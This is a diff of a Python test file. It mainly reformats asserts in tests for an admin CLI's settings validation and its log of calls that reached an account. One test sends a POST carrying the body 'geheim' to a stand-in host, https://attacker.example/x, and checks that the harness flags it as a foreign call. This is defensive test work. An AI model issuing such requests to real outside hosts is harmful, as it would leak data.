@@ -63,7 +63,10 @@ def test_set_refuses_what_does_not_exist_and_suggests(sandbox: Sandbox) -> None:
     folder = sandbox.folder
     assert admin("set", "error", "bare", folder=folder) == (2, 'unknown switch "error"; did you mean "errors"?\n')
     code, text = admin("set", "layout", "compact", "errors", "bear", folder=folder)
-    assert (code, text) == (2, 'errors cannot be "bear"; it is one of text | bare | envelope | stderr-json; did you mean "bare"?\n')
+    assert (code, text) == (
+        2,
+        'errors cannot be "bear"; it is one of text | bare | envelope | stderr-json; did you mean "bare"?\n',
+    )
     assert sandbox.value("layout") == "pretty"  # all or none
     assert admin("set", "layout", folder=folder) == (2, "layout has no value\n")
     assert admin("set", "hang-seconds", "-1", folder=folder)[0] == 2
@@ -99,8 +102,18 @@ def test_calls_shows_what_reached_the_account(sandbox: Sandbox, membrane: Progra
     membrane.run("request", "faktoora", "https://attacker.example/x", "-X", "POST", "-d", "geheim")
     program, account, request, foreign = json.loads(admin("calls", "--json", folder=sandbox.folder)[1])
     assert program["argv"][:3] == ["action", "run", "get-product"]
-    assert (account["parent"], account["method"], account["path"], account["status"]) == (program["id"], "GET", "/product/39887", 200)
-    assert (request["exit"], foreign["kind"], foreign["path"], foreign["body"]) == (1, "foreign", "https://attacker.example/x", "geheim")
+    assert (account["parent"], account["method"], account["path"], account["status"]) == (
+        program["id"],
+        "GET",
+        "/product/39887",
+        200,
+    )
+    assert (request["exit"], foreign["kind"], foreign["path"], foreign["body"]) == (
+        1,
+        "foreign",
+        "https://attacker.example/x",
+        "geheim",
+    )
     text = admin("calls", folder=sandbox.folder)[1]
     assert "    GET /product/39887" in text
     sandbox.forget_calls()
